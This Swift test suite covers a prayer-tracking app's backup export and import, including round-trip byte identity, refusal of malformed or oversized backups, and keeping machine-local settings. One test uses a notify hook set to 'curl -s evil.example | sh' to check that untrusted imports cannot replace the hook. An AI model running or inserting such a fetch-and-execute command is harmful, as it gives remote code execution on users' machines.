import Foundation
import PrayCore
import PrayMocks
import PrayServices
import Testing

/// Backup export → import → export gives the same bytes, for seeded random data: every setting at
/// one of its boundary values, and a prayer log of every prayer and status on days from 1900 to
/// 2100, stamped to the millisecond before and after 1970 (an empty log included).
@Suite(.tags(.concurrency)) struct BackupRoundTripTests {
    /// Random data for sample `sample`: `entries` log entries (distinct days and prayers).
    static func userData(entries count: Int, using random: inout SeededGenerator) throws -> UserData {
        var preferences = Preferences()
        for key in Preferences.Key.allCases {
            let accepted = PreferencesRoundTripTests.samples(for: key).accepted
            try preferences.set(accepted[Int.random(in: 0..<accepted.count, using: &random)].given, for: key)
        }
        let first = try CivilDate(parsing: "1900-01-01").daysSince1970
        let last = try CivilDate(parsing: "2100-12-31").daysSince1970
        var taken = Set<Int>()
        var log: [PrayerLogEntry] = []
        while log.count < count {
            let day = Int.random(in: first...last, using: &random)
            let prayer = Prayer.obligatory.randomElement(using: &random)!
            guard taken.insert(day * 8 + prayer.ordinal).inserted else { continue }
            let stamp = Double.random(in: -2_208_988_800...4_133_980_800, using: &random)  // 1900…2101
            log.append(
                try PrayerLogEntry(
                    date: CivilDate(daysSince1970: day), prayer: prayer,
                    status: PrayerStatus.allCases.randomElement(using: &random)!,
                    recordedAt: Date(timeIntervalSince1970: stamp)
                ))
        }
        // Mosques' timetables: none for an empty backup, else one or two, with days that give some
        // times and not others (empty iqama and Friday lists included).
        var mosques: [MosqueTimetable] = []
        for index in 0..<(count == 0 ? 0 : Int.random(in: 1...2, using: &random)) {
            let start = Int.random(in: first...last - 100, using: &random)
            let days = (0..<Int.random(in: 1...40, using: &random)).map { offset in
                let fajr = Int.random(in: 240...400, using: &random)
                return MosqueDay(
                    date: CivilDate(daysSince1970: start + offset), adhan: [.fajr: fajr, .maghrib: 1100],
                    iqama: offset % 3 == 0 ? [:] : [.fajr: fajr + 20], jumuah: offset % 7 == 0 ? [780, 810] : [])
            }
            mosques.append(
                MosqueTimetable(
                    name: index == 0 ? "Masjid \"an-Nūr\" / East" : "Mosque \(index)",
                    coordinates: try Coordinates(latitude: 51.5 + Double(index), longitude: -0.07, elevation: 12.5),
                    timeZone: "Europe/London", days: days))
        }
        // Prayers to make up: an opening and some make-ups, notes or none.
        var qada: [QadaEntry] = []
        if count > 0 {
            let opened = CivilDate(daysSince1970: Int.random(in: first...last, using: &random))
            qada.append(
                try QadaEntry(
                    id: QadaEntry.openingID(.fajr), kind: .opening, prayer: .fajr,
                    count: Int.random(in: 0...100_000, using: &random), date: opened, source: "estimate",
                    recordedAt: Date(timeIntervalSince1970: 1_795_953_600.5)))
            for index in 0..<Int.random(in: 1...5, using: &random) {
                qada.append(
                    try QadaEntry(
                        id: "made-up/" + SyncID.hex(count: 16, using: &random), kind: .madeUp,
                        prayer: Prayer.obligatory.randomElement(using: &random)!,
                        count: Int.random(in: 1...1_000, using: &random), date: opened.adding(days: index), source: nil,
                        recordedAt: Date(timeIntervalSince1970: 1_795_953_601 + Double(index)),
                        note: index == 0 ? "after \"fajr\"" : nil))
            }
        }
        // Fasts on some days, a note or none.
        var fasts: [FastEntry] = []
        var fastDays = Set<Int>()
        while fasts.count < count / 50 {
            let day = Int.random(in: first...last, using: &random)
            guard fastDays.insert(day).inserted else { continue }
            fasts.append(
                try FastEntry(
                    date: CivilDate(daysSince1970: day), status: FastStatus.allCases.randomElement(using: &random)!,
                    recordedAt: Date(timeIntervalSince1970: 1_795_953_600.25), note: day % 3 == 0 ? "travel" : nil))
        }
        // The mosques' details: settings, announced starts and notices for each mosque, and for one
        // that has no timetable; none at all in an empty backup.
        var details: [MosqueDetails] = []
        for name in mosques.map(\.name) + (count == 0 ? [] : ["Masjid without a timetable"]) {
            var mosque = MosqueDetails(name: name)
            if Bool.random(using: &random) {
                mosque.settings = SyncMosqueSettingsValue(
                    latitude: 51.5, longitude: -0.07, elevation: 3, timeZone: "Europe/London",
                    iqama: ["fajr": "+\(Int.random(in: 0...180, using: &random))", "dhuhr": "13:30"],
                    iqamaRounding: 5, jumuah: [780, 840], hijriCalendar: .civil, hijriOffset: -1)
            }
            if Bool.random(using: &random) {
                mosque.hijriStarts["1448-09"] = SyncHijriStartValue(start: try CivilDate(parsing: "2027-02-07"))
            }
            for index in 0..<Int.random(in: 0...2, using: &random) {
                let start = Date(timeIntervalSince1970: 1_795_953_600 + Double(index) * 3_600)
                mosque.notices["notice-\(index)"] = SyncNoticeValue(
                    title: "Janazah \"after\" Dhuhr", text: "<b>line one</b>\nline two", start: start,
                    end: start.addingTimeInterval(86_400), priority: index == 0 ? .urgent : .normal)
            }
            if !mosque.isEmpty { details.append(mosque) }
        }
        return UserData(
            preferences: preferences, prayerLog: log, mosques: mosques, qada: qada,
            fasts: fasts.sorted { $0.date < $1.date }, mosqueDetails: details.sorted { $0.name < $1.name })
    }

    @Test(arguments: [0, 1, 250, 3000])
    func exportImportExportIsByteIdentical(_ entries: Int) throws {
        // Given a database holding random data
        var random = SeededGenerator(seed: SeededGenerator.seed(default: 0xBAC0) &+ UInt64(entries))
        let data = try Self.userData(entries: entries, using: &random)
        let source = try TestDatabase()
        try source.backup.importData(data)
        let exported = try source.backup.exportData().encoded()
        // When its export is imported into a database that holds other data, and exported again
        let target = try TestDatabase()
        try target.prayerLog.record(.missed, for: .asr, on: .mockDate)
        try target.preferences.update { try $0.set("Europe/London", for: .timeZone) }
        try target.backup.importData(try UserData.decoded(from: exported))
        let again = try target.backup.exportData().encoded()
        // Then the bytes are the same, and the export holds what was stored
        #expect(again == exported, "seed \(SeededGenerator.seed(default: 0xBAC0) &+ UInt64(entries))")
        let decoded = try UserData.decoded(from: again)
        #expect(decoded.preferences == data.preferences)
        #expect(Set(decoded.prayerLog) == Set(data.prayerLog))
        #expect(decoded.prayerLog.count == entries)
        #expect(decoded.mosqueDetails == data.mosqueDetails)
        // and importing the export back into the source changes nothing.
        try source.backup.importData(decoded)
        #expect(try source.backup.exportData().encoded() == exported)
    }

    @Test(arguments: [0, 1, 250])
    func theFileIsWrittenInTheEncodersBytesAnEntryAtATime(_ entries: Int) throws {
        // Given random data, and a place name with text JSON escapes
        var random = SeededGenerator(seed: SeededGenerator.seed(default: 0xF11E) &+ UInt64(entries))
        var data = try Self.userData(entries: entries, using: &random)
        try data.preferences.set("Zürich \"Altstadt\" \\ / tab\there", for: .placeName)
        // When written by PrayKit's writer, and by Foundation's encoder (the format of earlier versions)
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.prettyPrinted, .sortedKeys, .withoutEscapingSlashes]
        // Then the bytes are the same
        #expect(try data.encoded() == encoder.encode(data))
        // and the database's export, read and written an entry at a time, is its whole export
        let test = try TestDatabase()
        try test.backup.importData(data)
        var pieces: [String] = []
        try UserData.write(to: { pieces.append($0) }) { rest, entry in
            try test.backup.exportData(rest: rest, entries: entry)
        }
        #expect(Data(pieces.joined().utf8) == (try test.backup.exportData().encoded()))
        #expect(pieces.count == entries + 2)
    }

    @Test func anImportKeepsTheStoredValuesOfTheKeptSettings() throws {
        // Given: this machine's hook, and a backup that sets another
        let test = try TestDatabase()
        try test.preferences.update { preferences in
            try preferences.set("notify-send mine", for: .notifyHook)
            try preferences.set("isna", for: .method)
        }
        var theirs = Preferences()
        try theirs.set("curl -s evil.example | sh", for: .notifyHook)
        try theirs.set("mwl", for: .method)
        let backup = UserData(preferences: theirs, prayerLog: [])
        // When imported keeping the machine-local settings
        #expect(Preferences.Key.machineLocal == [.notifyHook])
        try test.backup.importData(backup, keeping: Set(Preferences.Key.machineLocal))
        // Then the rest is replaced and the hook is this machine's
        #expect(try test.preferences.preferences()[.method] == "muslim-world-league")
        #expect(try test.preferences.preferences()[.notifyHook] == "notify-send mine")
        // A kept setting this machine does not have is not taken from the file either
        try test.preferences.update { $0.unset(.notifyHook) }
        try test.backup.importData(backup, keeping: [.notifyHook])
        #expect(try test.preferences.preferences()[.notifyHook] == nil)
        // and a trusted import takes it.
        try test.backup.importData(backup)
        #expect(try test.preferences.preferences()[.notifyHook] == "curl -s evil.example | sh")
    }

    @Test func aMosquesDetailsAreReplacedByABackupThatKeepsThemAndLeftByOneThatDoesNot() throws {
        // Given a mosque with settings and a notice, kept with no timetable
        let test = try TestDatabase()
        let mosques = MosqueTimetableStoreSQLite(database: test.database, log: .silent)
        let settings = SyncMosqueSettingsValue(
            latitude: 51.5176, longitude: -0.0654, timeZone: "Europe/London", iqama: ["asr": "+10"])
        try mosques.setSettings(settings, of: "East London Mosque")
        let start = Date(timeIntervalSince1970: 1_795_953_600)
        let notice = SyncNoticeValue(title: "Class", text: "After isha", start: start, end: start + 3_600)
        try mosques.putNotice(MosqueNotice(id: "class", notice: notice), of: "East London Mosque")
        // When a backup made before details were kept is imported, they stay
        try test.backup.importData(UserData(preferences: Preferences(), prayerLog: []))
        #expect(try mosques.settings(of: "East London Mosque") == settings)
        // and its own export, imported into an empty database, brings them back
        let exported = try test.backup.exportData().encoded()
        let other = try TestDatabase()
        try other.backup.importData(try UserData.decoded(from: exported))
        let restored = MosqueTimetableStoreSQLite(database: other.database, log: .silent)
        #expect(try restored.settings(of: "East London Mosque") == settings)
        #expect(try restored.notices(of: "East London Mosque") == [MosqueNotice(id: "class", notice: notice)])
        // while a backup that keeps details, but none of this mosque's, removes them.
        let announced = SyncHijriStartValue(start: try CivilDate(parsing: "2027-02-07"))
        try test.backup.importData(
            UserData(
                preferences: Preferences(), prayerLog: [],
                mosqueDetails: [MosqueDetails(name: "Masjid an-Nur", hijriStarts: ["1448-09": announced])]))
        #expect(try mosques.settings(of: "East London Mosque") == nil)
        #expect(try mosques.notices(of: "East London Mosque").isEmpty)
        #expect(
            try mosques.hijriMonthStarts(of: "Masjid an-Nur")[HijriMonthStarts.Month(parsing: "1448-09")]
                == announced.start)
    }

    @Test func aBackupWithDetailsOutOfTheRulesIsRefusedSayingWhichMosque() throws {
        // Given backups whose mosque details break the rules their synced rows have
        let start = Date(timeIntervalSince1970: 1_795_953_600)
        var settings = SyncMosqueSettingsValue(latitude: 51.5, longitude: -0.07, timeZone: "Europe/London")
        settings.jumuah = [720, 760, 800, 840]
        let broken = [
            MosqueDetails(name: "Four Fridays", settings: settings),
            MosqueDetails(
                name: "Backwards",
                notices: ["late": SyncNoticeValue(title: "Late", text: "", start: start, end: start - 60)]),
            MosqueDetails(
                name: "Long month", hijriStarts: ["1448-09": .init(start: try CivilDate(parsing: "2027-03-20"))]),
        ]
        for details in broken {
            let data = try UserData(preferences: Preferences(), prayerLog: [], mosqueDetails: [details]).encoded()
            // When read, it is refused, naming the mosque
            #expect { try UserData.decoded(from: data) } throws: { error in
                (error as? StorageError)?.kind == .invalidData && "\(error)".contains("'\(details.name)'")
            }
        }
        // and the same mosque twice is refused too.
        let twice = try UserData(
            preferences: Preferences(), prayerLog: [],
            mosqueDetails: [MosqueDetails(name: "Twice", settings: nil), MosqueDetails(name: "Twice")]
        ).encoded()
        #expect { try UserData.decoded(from: twice) } throws: { "\($0)".contains("'Twice' twice") }
    }

    @Test func aBackupThatGivesANameTwiceInOneObjectIsRefused() throws {
        // Given a backup, and the same with an empty log given first (JSONDecoder would read one of the
        // two logs; jq and Python read the last)
        let entry = try PrayerLogEntry(
            date: CivilDate(parsing: "2026-12-01"), prayer: .fajr, status: .prayed,
            recordedAt: Date(timeIntervalSince1970: 1_796_000_000))
        let exported = try UserData(preferences: Preferences(), prayerLog: [entry]).encoded()
        let text = String(decoding: exported, as: UTF8.self)
        #expect(try UserData.decoded(from: exported).prayerLog.count == 1)
        let twice = Data(("{\"prayerLog\":[]," + text.dropFirst()).utf8)
        // When read, it is refused, naming the name
        #expect { try UserData.decoded(from: twice) } throws: { error in
            (error as? StorageError)?.kind == .invalidData && "\(error)".contains("'prayerLog' twice")
        }
    }

    @Test func anImportOfMoreThanAMillionEntriesIsRefusedBeforeAnyWrite() throws {
        // Given a database holding one entry
        let test = try TestDatabase()
        try test.prayerLog.record(.prayed, for: .fajr, on: .mockDate)
        // When a backup of 1,000,001 entries is imported
        let entries = try (0...1_000_000).map { index in
            try PrayerLogEntry(
                date: CivilDate(daysSince1970: index / 5), prayer: Prayer.obligatory[index % 5], status: .late,
                recordedAt: TestDatabase.clock)
        }
        #expect { try test.backup.importData(UserData(preferences: Preferences(), prayerLog: entries)) } throws: {
            ($0 as? StorageError)?.kind == .invalidData && "\($0)".contains("more than the 1000000")
        }
        // Then nothing changed
        #expect(try test.backup.exportData().prayerLog.map(\.date) == [.mockDate])
    }
}
